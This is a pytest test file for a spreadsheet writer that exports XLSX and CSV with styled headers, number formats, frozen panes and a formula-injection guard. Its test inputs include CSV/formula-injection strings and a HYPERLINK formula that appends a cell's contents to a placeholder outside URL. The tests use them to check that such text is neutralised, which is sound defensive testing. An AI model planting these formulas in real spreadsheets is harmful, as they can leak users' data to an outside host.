"""The one spreadsheet writer: styles, formats, frozen header, widths, CSV options, and the
formula-injection guard."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from budget.spreadsheets import writer as w

DANGEROUS = ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"clic")'


def open_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


def simple(rows, **options) -> bytes:
    columns = [
        w.Column("Titre"),
        w.Column("Montant", w.EURO),
        w.Column("Voix", w.INTEGER),
        w.Column("Part", w.PERCENT),
        w.Column("Le", w.DATE),
    ]
    return w.xlsx_bytes([w.Sheet("Données", columns, rows, **options)])


def test_it_writes_a_bold_filled_header_frozen_with_an_autofilter():
    sheet = open_xlsx(simple([["a", Decimal("1.5"), 3, 0.5, date(2027, 1, 31)]]))["Données"]
    header = [cell.value for cell in sheet[1]]
    assert header == ["Titre", "Montant", "Voix", "Part", "Le"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet["A1"].fill.fgColor.rgb.endswith("DCE3EE")
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E2"


def test_it_formats_numbers_and_dates_per_column():
    sheet = open_xlsx(simple([["a", Decimal("1234.5"), 3, 0.5, date(2027, 1, 31)]])).active
    title, money, votes, share, day = sheet[2]
    assert money.value == 1234.5 and money.number_format == w.EURO
    assert votes.value == 3 and votes.number_format == w.INTEGER
    assert share.number_format == w.PERCENT
    assert day.number_format == w.DATE
    assert title.number_format == "General"


def test_it_formats_empty_cells_but_not_text_in_number_columns():
    sheet = open_xlsx(simple([["a", None, "—", None, None]])).active
    assert sheet["B2"].value is None and sheet["B2"].number_format == w.EURO
    assert sheet["C2"].value == "—" and sheet["C2"].number_format == "General"


def test_it_writes_aware_datetimes_in_local_time():
    columns = [w.Column("Quand", w.DATETIME)]
    rows = [[datetime(2027, 1, 31, 9, 30, tzinfo=UTC)]]
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("S", columns, rows)])).active
    assert sheet["A2"].value == datetime(2027, 1, 31, 10, 30)  # Europe/Paris in winter
    assert sheet["A2"].number_format == w.DATETIME


def test_it_sizes_columns_to_their_content_within_bounds():
    rows = [["x" * 30, 1], ["y" * 500, 2]]
    columns = [w.Column("Court"), w.Column("N", width=7)]
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("S", columns, [rows[0]])])).active
    assert sheet.column_dimensions["A"].width == 32
    assert sheet.column_dimensions["B"].width == 7
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("S", columns, rows)])).active
    assert sheet.column_dimensions["A"].width == w.WIDTH_MAX
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("S", columns, [])])).active
    assert sheet.column_dimensions["A"].width == w.WIDTH_MIN


def test_it_writes_title_lines_above_the_table_and_freezes_under_its_header():
    lines = [w.Line("Rapport", w.TITLE), w.Line("PROVISOIRE", w.DRAFT)]
    sheet_ = w.Sheet("S", [w.Column("A"), w.Column("B")], [["x", "y"]], lines=lines)
    sheet = open_xlsx(w.xlsx_bytes([sheet_])).active
    assert sheet["A1"].value == "Rapport" and sheet["A1"].font.size == 14
    assert sheet["A2"].value == "PROVISOIRE" and sheet["B2"].fill.fgColor.rgb.endswith("F8D7D4")
    assert sheet["A3"].value is None
    assert sheet["A4"].value == "A" and sheet["A5"].value == "x"
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:B5"


def test_it_writes_several_captioned_tables_and_keeps_the_lines_in_view():
    tables = [
        w.Table([w.Column("A")], [[1]], caption="Premier"),
        w.Table([w.Column("B"), w.Column("C")], [[2, 3]], caption="Second"),
    ]
    sheet_ = w.Sheet("S", lines=[w.Line("Titre", w.TITLE)], tables=tables)
    sheet = open_xlsx(w.xlsx_bytes([sheet_])).active
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == [
        "Titre",
        None,
        "Premier",
        "A",
        1,
        None,
        "Second",
        "B",
        2,
    ]
    assert sheet["A3"].font.bold and sheet["A3"].font.size == 12
    assert sheet.freeze_panes == "A2"


def test_it_writes_label_value_sheets_without_header():
    columns = [w.Column("", bold=True, width=40), w.Column("", width=70)]
    rows = [["Licence", "Licence ouverte"], ["Montant", w.Cell(Decimal("12"), w.EURO)]]
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("Licence", columns, rows, header=False)])).active
    assert sheet["A1"].value == "Licence" and sheet["A1"].font.bold
    assert sheet["B1"].value == "Licence ouverte" and not sheet["B1"].font.bold
    assert sheet["B2"].number_format == w.EURO
    assert sheet.freeze_panes is None


def test_it_freezes_leading_columns_and_wraps_long_text():
    columns = [w.Column("Réf."), w.Column("Réponse", wrap=True)]
    sheet_ = w.Sheet("S", columns, [["P-1", "long"]], freeze_columns=1)
    sheet = open_xlsx(w.xlsx_bytes([sheet_])).active
    assert sheet.freeze_panes == "B2"
    assert sheet["B2"].alignment.wrap_text
    assert sheet["A2"].alignment.vertical == "top"


def test_it_offers_choices_in_a_drop_down_list():
    choice = w.Choices(["oui", "non"], error="Répondez oui ou non.", spare_rows=10)
    columns = [w.Column("code"), w.Column("ajustable", choices=choice)]
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("S", columns, [["a", "oui"], ["b", "non"]])])).active
    (validation,) = sheet.data_validations.dataValidation
    assert validation.formula1 == '"oui,non"'
    assert validation.error == "Répondez oui ou non."
    assert str(validation.sqref) == "B2:B13"


def test_it_names_sheets_the_way_excel_accepts():
    sheets = [w.Sheet("Mesures / groupes : [bilan] de l'année entière"), w.Sheet("x" * 40)]
    sheets.append(w.Sheet("x" * 40))
    book = w.build_workbook(sheets, title="Titre", identifier="arbitrages:x")
    assert book.sheetnames == ["Mesures   groupes    bilan  de ", "x" * 31, "x" * 27 + " (2)"]
    assert book.properties.title == "Titre" and book.properties.identifier == "arbitrages:x"


@pytest.mark.parametrize("text", [*DANGEROUS, HYPERLINK])
def test_it_writes_dangerous_text_as_a_literal_string_in_xlsx(text):
    data = w.xlsx_bytes([w.Sheet("S", [w.Column(text)], [[text]])])
    sheet = open_xlsx(data).active
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        # Read back as typed (XML turns a carriage return into a line feed): the import sees
        # what people wrote, without the quote a CSV needs.
        assert cell.value.strip() == text.strip()
        assert cell.quotePrefix
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


def test_it_leaves_ordinary_text_without_quote_prefix():
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("S", [w.Column("T")], [["Parc = jardin"]])])).active
    assert sheet["A2"].value == "Parc = jardin" and not sheet["A2"].quotePrefix


def test_it_keeps_negative_numbers_as_numbers():
    columns = [w.Column("Montant", w.EURO)]
    rows = [[Decimal("-12.50")], [-3], [-0.5]]
    sheet = open_xlsx(w.xlsx_bytes([w.Sheet("S", columns, rows)])).active
    assert [cell.value for (cell,) in sheet.iter_rows(min_row=2)] == [-12.5, -3, -0.5]
    assert all(cell.data_type == "n" for (cell,) in sheet.iter_rows(min_row=2))
    table = w.Table(columns, rows)
    csv_lines = w.csv_text(table, delimiter=";", decimal_comma=True).splitlines()
    assert csv_lines[1:] == ["-12,50", "-3", "-0,5"]


@pytest.mark.parametrize("text", [*DANGEROUS, HYPERLINK])
def test_it_puts_a_quote_before_dangerous_text_in_csv(text):
    table = w.Table([w.Column("Titre")], [[text]])
    (row,) = list(csv.reader(io.StringIO(w.csv_text(table), newline="")))[1:]
    assert row == ["'" + text]


def test_it_guards_headers_and_captions_in_csv_too():
    table = w.Table([w.Column("=A1")], [], caption="@cap")
    assert w.csv_text(table).splitlines() == ["'@cap", "'=A1"]


def test_it_writes_csv_with_the_separator_decimal_comma_and_bom_asked():
    table = w.Table([w.Column("Titre"), w.Column("Montant", decimals=2)], [["a", Decimal("3.5")]])
    assert w.csv_text(table) == "Titre,Montant\r\na,3.50\r\n"
    french = w.csv_bytes(table, delimiter=";", decimal_comma=True, bom=True)
    assert french == "\ufeffTitre;Montant\r\na;3,50\r\n".encode()
    assert w.csv_text(table, line_end="\n") == "Titre,Montant\na,3.50\n"


def test_it_writes_csv_numbers_exactly_without_a_decimals_setting():
    table = w.Table([w.Column("N"), w.Column("T")], [[Decimal("12.345"), "a"], [0.1, ""], [7, ""]])
    table.rows.append([None, "b"])
    text = w.csv_text(table, delimiter=";", decimal_comma=True)
    assert text.splitlines() == ["N;T", "12,345;a", "0,1;", "7;", ";b"]


def test_it_writes_several_tables_in_one_csv_under_their_captions():
    tables = [
        w.Table([w.Column("A")], [[1]], caption="Premier"),
        w.Table([w.Column("B")], [[2]], caption="Second"),
    ]
    assert w.csv_text(tables).splitlines() == ["Premier", "A", "1", "", "Second", "B", "2"]
